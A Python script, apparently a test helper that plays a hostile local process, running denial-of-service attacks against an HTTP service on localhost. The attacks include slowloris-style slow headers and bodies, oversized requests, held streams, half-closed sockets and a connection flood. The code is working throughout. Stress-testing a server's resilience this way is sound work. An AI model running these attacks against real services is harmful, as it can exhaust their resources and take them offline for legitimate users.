"""A user of this machine who means harm: a process of its own, under a uid of its own.

Started as `attacker.py KIND PORT COUNT`; says "ready" once it has done its worst, and goes on with it until
its input ends.
"""
import resource
import select
import socket
import struct
import sys
import threading

HOST = "localhost"
HEAD = f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\n".encode()
KINDS = {
    # What is sent at once, and what every second after that.
    "idle": (b"", b""),
    "slow-head": (HEAD + b"X-Slow: ", b"x"),
    "slow-body": (
        f"POST /api/session HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
        "Content-Length: 200000\r\n\r\n{\"token\":\"".encode(), b"x"),
    "streams": (f"GET /api/events HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode(), b""),
    "deaf": (f"GET /api/openapi.json HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 200, b""),
    "large-head": (HEAD + b"X-Large: " + b"x" * (1 << 20), b""),
    "large-body": (
        f"POST /api/session HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000000\r\n\r\n".encode() +
        b"x" * (1 << 21), b"x" * (1 << 16)),
    "half-closed": None,
    "flood": None,
}


def main(kind, port, count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 8192)), hard))
    threading.Thread(target=lambda: attack(kind, port, count), daemon=True).start()
    sys.stdin.read()


def attack(kind, port, count):
    if kind == "flood":
        flood(port, count)
    elif kind == "half-closed":
        hold(port, count, b"", b"", half_closed=True)
    else:
        hold(port, count, *KINDS[kind])


def hold(port, count, first, again, half_closed=False):
    """Holds so many connections as it can get; those that are cut off it makes anew, in two rounds."""
    connections = []
    for round_ in range(2):
        for _ in range(count - len(connections)):
            connection = connect(port)
            if connection is not None:
                send(connection, first)
                if half_closed:
                    connection.shutdown(socket.SHUT_WR)
                connections.append(connection)
        if round_ == 0:
            connections = alive(connections)
    print("ready", flush=True)
    while True:
        threading.Event().wait(1)
        for connection in connections:
            send(connection, again)


def flood(port, count):
    """Opens and closes connections, and asks for what is large, as fast as it can."""
    def ask():
        while True:
            connection = connect(port)
            if connection is not None:
                send(connection, f"GET /api/openapi.json HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
                # Without waiting: else it is the kernel's ports that run out, of which the agent has no say.
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connection.close()
    for _ in range(count):
        threading.Thread(target=ask, daemon=True).start()
    threading.Event().wait(2)
    print("ready", flush=True)


def connect(port):
    connection = socket.socket()
    connection.settimeout(2)
    try:
        connection.connect(("127.0.0.1", port))
    except OSError:
        connection.close()
        return None
    connection.setblocking(False)
    return connection


def send(connection, what):
    try:
        if what:
            connection.send(what)
    except OSError:
        pass  # Cut off, or its buffers are full.


def alive(connections):
    """Those that the agent has not closed."""
    poll = select.poll()
    for connection in connections:
        poll.register(connection, select.POLLRDHUP)
    closed = {descriptor for descriptor, event in poll.poll(0)
              if event & (select.POLLRDHUP | select.POLLHUP | select.POLLERR)}
    return [connection for connection in connections if connection.fileno() not in closed]


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
